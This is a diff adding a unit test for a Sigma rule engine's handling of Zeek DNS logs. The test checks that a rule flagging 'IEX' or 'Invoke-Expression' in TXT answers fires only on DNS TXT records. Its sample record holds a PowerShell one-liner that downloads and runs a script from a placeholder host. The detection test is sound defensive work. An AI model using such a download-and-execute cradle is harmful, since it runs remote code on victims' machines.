@@ -403,6 +403,32 @@ Test(sigma_logsources, zeek_log_type_is_the_path_field, .init = setup, .fini = t
     cr_assert_str_eq(matches("{\"id.orig_h\":\"198.51.100.4\",\"id.resp_p\":3389}"), "");
 }
 
+/* The product-less dns category on Zeek's dns log: answer and record_type
+ * are Zeek's answers and qtype_name. */
+Test(sigma_logsources, dns_category_is_zeek_dns, .init = setup, .fini = teardown)
+{
+    put("txt.yml", RULE("00000000-0000-0000-0000-00000000a071", "txt payload", "  category: dns\n",
+                        "  selection:\n    record_type: 'TXT'\n"
+                        "    answer|contains: ['IEX', 'Invoke-Expression']\n"
+                        "  condition: selection\n"));
+    start();
+    const char *rec =
+        "{\"_path\":\"dns\",\"ts\":1760784978.5,\"uid\":\"C4\",\"id.orig_h\":"
+        "\"10.0.0.8\",\"id.orig_p\":53211,\"id.resp_h\":\"10.0.0.2\",\"id.resp_p\":53,"
+        "\"proto\":\"udp\",\"query\":\"stage.example.net\",\"qtype\":16,"
+        "\"qtype_name\":\"TXT\",\"rcode_name\":\"NOERROR\",\"answers\":["
+        "\"TXT 34 IEX (New-Object Net.WebClient).DownloadString('http://x/a')\"],"
+        "\"TTLs\":[60.0],\"rejected\":false}";
+    cr_assert_str_eq(matches(rec), "txt payload");
+    /* the same answer in an A-record query; the same text outside the dns log */
+    cr_assert_str_eq(matches("{\"_path\":\"dns\",\"id.orig_h\":\"10.0.0.8\",\"qtype_name\":"
+                             "\"A\",\"answers\":[\"IEX\"]}"),
+                     "");
+    cr_assert_str_eq(matches("{\"_path\":\"http\",\"id.orig_h\":\"10.0.0.8\",\"qtype_name\":"
+                             "\"TXT\",\"answers\":[\"IEX\"]}"),
+                     "");
+}
+
 /* SigmaHQ's own rules for Zeek, OpenCanary, Bitbucket and RPC Firewall load,
  * none skipped, and real ones fire on the records those products ship. */
 Test(sigma_logsources, sigmahq_rules_of_these_logsources_load, .init = setup, .fini = teardown)
